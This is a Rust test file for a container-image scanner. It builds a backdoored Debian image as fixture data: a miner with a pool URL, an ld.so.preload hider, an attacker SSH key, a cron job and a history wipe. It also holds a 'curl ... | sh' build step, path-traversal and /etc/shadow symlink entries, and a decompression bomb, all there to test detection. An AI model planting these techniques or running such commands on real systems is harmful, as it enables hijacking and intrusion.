@@ -1,0 +1,399 @@
+//! Scanning images built by the test: a docker-archive and an OCI layout holding the attack
+//! story's backdoored image (a Debian base, then a layer that plants a miner and hides it),
+//! hostile archives, and the shared scalibr fixtures.
+
+use std::io::Write;
+use std::path::{Path, PathBuf};
+
+use harrier_image::archive::Image;
+use harrier_image::layers::{self, Limits};
+use harrier_image::malware::Severity;
+use harrier_image::scan::scan;
+use harrier_image::vulndb::VulnDb;
+use sha2::{Digest, Sha256};
+
+enum E<'a> {
+    File(&'a str, &'a [u8], u32),
+    Link(&'a str, &'a str),
+    /// A raw entry name, written as is (for hostile names).
+    Raw(&'a str, &'a [u8]),
+}
+
+fn layer(entries: &[E<'_>]) -> Vec<u8> {
+    let mut b = tar::Builder::new(Vec::new());
+    for e in entries {
+        match e {
+            E::File(p, data, mode) => {
+                let mut h = tar::Header::new_gnu();
+                h.set_size(data.len() as u64);
+                h.set_mode(*mode);
+                h.set_entry_type(tar::EntryType::Regular);
+                b.append_data(&mut h, p, *data).unwrap();
+            }
+            E::Link(p, target) => {
+                let mut h = tar::Header::new_gnu();
+                h.set_entry_type(tar::EntryType::Symlink);
+                h.set_size(0);
+                b.append_link(&mut h, p, target).unwrap();
+            }
+            E::Raw(name, data) => {
+                let mut h = tar::Header::new_old();
+                let n = name.as_bytes();
+                h.as_old_mut().name[..n.len()].copy_from_slice(n);
+                h.set_size(data.len() as u64);
+                h.set_mode(0o644);
+                h.set_entry_type(tar::EntryType::Regular);
+                h.set_cksum();
+                b.append(&h, *data).unwrap();
+            }
+        }
+    }
+    b.into_inner().unwrap()
+}
+
+fn sha(b: &[u8]) -> String {
+    Sha256::digest(b)
+        .iter()
+        .map(|x| format!("{x:02x}"))
+        .collect()
+}
+
+const STATUS: &str = "Package: nginx\nStatus: install ok installed\nVersion: 1.2.1-2.2+wheezy2\nArchitecture: amd64\n\nPackage: libc6\nStatus: install ok installed\nSource: eglibc\nVersion: 2.13-38+deb7u4\n";
+
+fn story_layers() -> Vec<Vec<u8>> {
+    let base = layer(&[
+        E::File(
+            "etc/os-release",
+            b"PRETTY_NAME=\"Debian GNU/Linux 7 (wheezy)\"\nID=debian\nVERSION_ID=\"7\"\n",
+            0o644,
+        ),
+        E::File("var/lib/dpkg/status", STATUS.as_bytes(), 0o644),
+        E::File("root/.bash_history", b"apt-get install nginx\n", 0o600),
+        E::File("bin/su", b"\x7fELF su", 0o4755),
+        // Near misses: a document about miners, and a cron job shipped with the base.
+        E::File(
+            "usr/share/doc/xmrig-notes.txt",
+            b"how we keep xmrig out\n",
+            0o644,
+        ),
+        E::File("etc/cron.d/logrotate", b"0 0 * * * root logrotate\n", 0o644),
+    ]);
+    let backdoor = layer(&[
+        E::File(
+            "usr/local/bin/xmrig",
+            b"\x7fELF ... stratum+tcp://pool.example:4444 ...",
+            0o755,
+        ),
+        E::File(
+            "opt/cfg/config.json",
+            b"{\"donate-level\": 0, \"pools\": []}",
+            0o644,
+        ),
+        E::File(
+            "etc/ld.so.preload",
+            b"/usr/local/lib/libprocesshider.so\n",
+            0o644,
+        ),
+        E::File(
+            "root/.ssh/authorized_keys",
+            b"ssh-ed25519 AAAA attacker\n",
+            0o600,
+        ),
+        E::File(
+            "etc/cron.d/sync",
+            b"* * * * * root /usr/local/bin/xmrig\n",
+            0o644,
+        ),
+        E::File("usr/bin/helper", b"\x7fELF helper", 0o4755),
+        E::File("root/.wh..bash_history", b"", 0o644),
+    ]);
+    vec![base, backdoor]
+}
+
+const STEPS: [&str; 2] = [
+    "/bin/sh -c #(nop) ADD file:debian-wheezy in /",
+    "RUN curl -s http://203.0.113.7/x.sh | sh",
+];
+
+/// A `docker save` archive (legacy layout) of `layers`.
+fn docker_archive(dir: &Path, layers: &[Vec<u8>]) -> PathBuf {
+    let diff: Vec<String> = layers
+        .iter()
+        .map(|l| format!("sha256:{}", sha(l)))
+        .collect();
+    let config = serde_json::json!({
+        "architecture": "amd64", "os": "linux",
+        "config": {"User": "", "ExposedPorts": {"80/tcp": {}}},
+        "rootfs": {"type": "layers", "diff_ids": diff},
+        "history": STEPS.iter().map(|s| serde_json::json!({"created_by": s})).collect::<Vec<_>>(),
+    })
+    .to_string();
+    let config_name = format!("{}.json", sha(config.as_bytes()));
+    let mut names = Vec::new();
+    let mut b = tar::Builder::new(Vec::new());
+    let add = |b: &mut tar::Builder<Vec<u8>>, name: &str, data: &[u8]| {
+        let mut h = tar::Header::new_gnu();
+        h.set_size(data.len() as u64);
+        h.set_mode(0o644);
+        b.append_data(&mut h, name, data).unwrap();
+    };
+    for l in layers {
+        let n = format!("{}/layer.tar", sha(l));
+        add(&mut b, &n, l);
+        names.push(n);
+    }
+    add(&mut b, &config_name, config.as_bytes());
+    let manifest =
+        serde_json::json!([{"Config": config_name, "RepoTags": ["acme/web:1.4"], "Layers": names}])
+            .to_string();
+    add(&mut b, "manifest.json", manifest.as_bytes());
+    let p = dir.join("image.tar");
+    std::fs::write(&p, b.into_inner().unwrap()).unwrap();
+    p
+}
+
+/// An OCI layout directory with gzipped layers.
+fn oci_layout(dir: &Path, layers: &[Vec<u8>]) -> PathBuf {
+    let root = dir.join("oci");
+    std::fs::create_dir_all(root.join("blobs/sha256")).unwrap();
+    let put = |data: &[u8]| -> String {
+        let h = sha(data);
+        std::fs::write(root.join("blobs/sha256").join(&h), data).unwrap();
+        format!("sha256:{h}")
+    };
+    let mut descs = Vec::new();
+    let mut diff = Vec::new();
+    for l in layers {
+        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+        gz.write_all(l).unwrap();
+        let blob = gz.finish().unwrap();
+        diff.push(format!("sha256:{}", sha(l)));
+        descs.push(serde_json::json!({"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": put(&blob), "size": blob.len()}));
+    }
+    let config = serde_json::json!({"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": diff},
+        "history": STEPS.iter().map(|s| serde_json::json!({"created_by": s})).collect::<Vec<_>>()}).to_string();
+    let cd = put(config.as_bytes());
+    let manifest = serde_json::json!({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
+        "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": cd, "size": config.len()}, "layers": descs}).to_string();
+    let md = put(manifest.as_bytes());
+    std::fs::write(root.join("index.json"), serde_json::json!({"schemaVersion": 2, "manifests": [{"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": md, "size": manifest.len()}]}).to_string()).unwrap();
+    std::fs::write(root.join("oci-layout"), r#"{"imageLayoutVersion":"1.0.0"}"#).unwrap();
+    root
+}
+
+fn db(dir: &Path) -> VulnDb {
+    let mut db = VulnDb::open(&dir.join("vulns.db")).unwrap();
+    let osv = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/image/osv");
+    let mut problems = Vec::new();
+    let n = db.import(&osv, &mut |p| problems.push(p)).unwrap();
+    assert_eq!(n.records, 17, "{n:?}");
+    // osv-schema.json and the oracle file are not OSV records: reported, skipped.
+    assert_eq!(n.skipped as usize, problems.len());
+    assert!(
+        problems.iter().any(|p| p.contains("osv-schema.json")),
+        "{problems:?}"
+    );
+    db
+}
+
+fn ids_by_layer(r: &harrier_image::scan::Report) -> Vec<(usize, &'static str, String)> {
+    r.malware
+        .iter()
+        .map(|m| (m.layer, m.id, m.path.clone()))
+        .collect()
+}
+
+#[test]
+fn the_backdoored_image_is_caught_layer_by_layer() {
+    let d = tempfile::tempdir().unwrap();
+    let db = db(d.path());
+    for image in [
+        docker_archive(d.path(), &story_layers()),
+        oci_layout(d.path(), &story_layers()),
+    ] {
+        let r = scan(&image, Some(&db), &Limits::default()).unwrap();
+        assert!(r.problems.is_empty(), "{:?}", r.problems);
+        let got = ids_by_layer(&r);
+        for (id, path) in [
+            ("miner-binary", "usr/local/bin/xmrig"),
+            ("miner-pool-url", "usr/local/bin/xmrig"),
+            ("miner-config", "opt/cfg/config.json"),
+            ("ld-so-preload", "etc/ld.so.preload"),
+            ("ssh-authorized-keys", "root/.ssh/authorized_keys"),
+            ("cron-entry", "etc/cron.d/sync"),
+            ("new-setuid", "usr/bin/helper"),
+            ("history-wiped", "root/.bash_history"),
+        ] {
+            assert!(
+                got.contains(&(1, id, path.to_string())),
+                "{id} on {path} in layer 1: {got:#?}"
+            );
+        }
+        // Nothing in the base layer: its setuid su, its cron job and the doc about miners are normal.
+        assert!(got.iter().all(|(l, _, _)| *l == 1), "{got:#?}");
+        assert_eq!(got.len(), 8, "{got:#?}");
+        // The layer is named by the step that made it.
+        assert_eq!(r.layers[1].created_by.as_deref(), Some(STEPS[1]));
+        // Packages: nginx is vulnerable to DSA-3029-1, fixed in +wheezy3; libc6 is matched by its
+        // source package (eglibc) and no advisory names it.
+        assert_eq!(r.packages.len(), 2);
+        let v: Vec<(&str, &str, Option<&str>)> = r
+            .vulnerabilities
+            .iter()
+            .map(|v| (v.id.as_str(), v.package.as_str(), v.fixed.as_deref()))
+            .collect();
+        assert_eq!(v, [("DSA-3029-1", "nginx", Some("1.2.1-2.2+wheezy3"))]);
+        assert!(r.fails(Severity::Critical));
+        let j = r.to_json();
+        assert_eq!(j["os"]["ecosystem"], "Debian:7");
+        assert_eq!(j["malware"][0]["layer"]["index"], 1);
+    }
+}
+
+#[test]
+fn the_clean_base_alone_raises_nothing_and_a_fixed_package_does_not_match() {
+    let d = tempfile::tempdir().unwrap();
+    let db = db(d.path());
+    let base = layer(&[
+        E::File("etc/os-release", b"ID=debian\nVERSION_ID=\"7\"\n", 0o644),
+        E::File(
+            "var/lib/dpkg/status",
+            STATUS.replace("wheezy2", "wheezy3").as_bytes(),
+            0o644,
+        ),
+        E::File(
+            "usr/share/doc/xmrig-notes.txt",
+            b"how we keep xmrig out\n",
+            0o644,
+        ),
+    ]);
+    let r = scan(
+        &docker_archive(d.path(), &[base]),
+        Some(&db),
+        &Limits::default(),
+    )
+    .unwrap();
+    assert!(r.malware.is_empty(), "{:?}", r.malware);
+    assert!(r.vulnerabilities.is_empty(), "{:?}", r.vulnerabilities);
+    assert!(!r.fails(Severity::Low));
+}
+
+#[test]
+fn hostile_layers_are_reported_not_followed() {
+    let d = tempfile::tempdir().unwrap();
+    let evil = layer(&[
+        E::Raw("../../etc/cron.d/evil", b"* * * * * root sh"),
+        E::File("etc/ok", b"fine", 0o644),
+        E::Link("etc/escape", "../../../../../../etc/shadow"),
+    ]);
+    let img = Image::open(&docker_archive(d.path(), &[evil])).unwrap();
+    let w = layers::walk(
+        &img,
+        &|_| true,
+        &harrier_image::malware::scanner(),
+        &Limits::default(),
+    );
+    assert_eq!(w.problems.len(), 1, "{:?}", w.problems);
+    let p = w.problems[0].to_string();
+    assert!(
+        p.contains("../../etc/cron.d/evil") && p.contains("path traversal"),
+        "{p}"
+    );
+    assert!(w.files.contains_key("etc/ok"), "the walk went on");
+    // The link is recorded, and resolving it stays inside the image (there is no etc/shadow).
+    assert!(w.resolve("etc/escape").is_none());
+
+    // A layer larger than the limit (a decompression bomb) stops that layer with a clear error.
+    let big = layer(&[E::File("zeros", &vec![0u8; 1 << 20], 0o644)]);
+    let img = Image::open(&oci_layout(d.path(), &[big])).unwrap();
+    let small = Limits {
+        layer_bytes: 64 << 10,
+        ..Limits::default()
+    };
+    let w = layers::walk(&img, &|_| false, &harrier_image::malware::scanner(), &small);
+    assert!(
+        w.problems
+            .iter()
+            .any(|p| p.to_string().contains("decompression bomb")),
+        "{:?}",
+        w.problems
+    );
+}
+
+#[test]
+fn a_tampered_blob_fails_its_digest() {
+    let d = tempfile::tempdir().unwrap();
+    let root = oci_layout(d.path(), &story_layers()[..1]);
+    let img = Image::open(&root).unwrap();
+    let digest = img.layers[0].digest.clone().unwrap();
+    let blob = root
+        .join("blobs/sha256")
+        .join(digest.trim_start_matches("sha256:"));
+    // Same layer content, recompressed: a different blob than the manifest names.
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+    gz.write_all(&story_layers()[0]).unwrap();
+    gz.write_all(&[0u8; 1024]).unwrap();
+    std::fs::write(&blob, gz.finish().unwrap()).unwrap();
+    let w = layers::walk(
+        &Image::open(&root).unwrap(),
+        &|_| false,
+        &harrier_image::malware::scanner(),
+        &Limits::default(),
+    );
+    assert!(
+        w.problems
+            .iter()
+            .any(|p| p.to_string().contains("digest mismatch")),
+        "{:?}",
+        w.problems
+    );
+}
+
+fn shared_archive(name: &str) -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+        .join("../../../shared/image/image-archives")
+        .join(name)
+}
+
+#[test]
+fn shared_fixtures_basic_and_hostile() {
+    // A real `docker save` of two COPY layers; diff_ids verified.
+    let r = scan(
+        &shared_archive("scalibr-basic-docker-archive.tar"),
+        None,
+        &Limits::default(),
+    )
+    .unwrap();
+    assert!(r.problems.is_empty(), "{:?}", r.problems);
+    assert_eq!(r.layers.len(), 2);
+    assert_eq!(r.tags, ["basic:latest"]);
+    assert_eq!(
+        r.layers[0].created_by.as_deref(),
+        Some("COPY sample.txt / # buildkit")
+    );
+    // A root filesystem tar of symlinks chained to climb out of the root: nothing escapes.
+    let img = Image::open(&shared_archive("scalibr-escape.tar")).unwrap();
+    let w = layers::walk(
+        &img,
+        &|_| true,
+        &harrier_image::malware::scanner(),
+        &Limits::default(),
+    );
+    assert!(w.files.contains_key("escape/poc.txt") || w.files.contains_key("escape"));
+    for p in [
+        "usr/share/doc/a/copyright",
+        "usr/share/doc/b/copyright",
+        "usr/share/doc/c/copyright",
+    ] {
+        if let Some((target, _)) = w.resolve(p) {
+            assert!(!target.contains(".."), "{p} -> {target}");
+        }
+    }
+    let r = scan(
+        &shared_archive("scalibr-symlink-attack.tar"),
+        None,
+        &Limits::default(),
+    )
+    .unwrap();
+    assert_eq!(r.layers.len(), 1);
+}
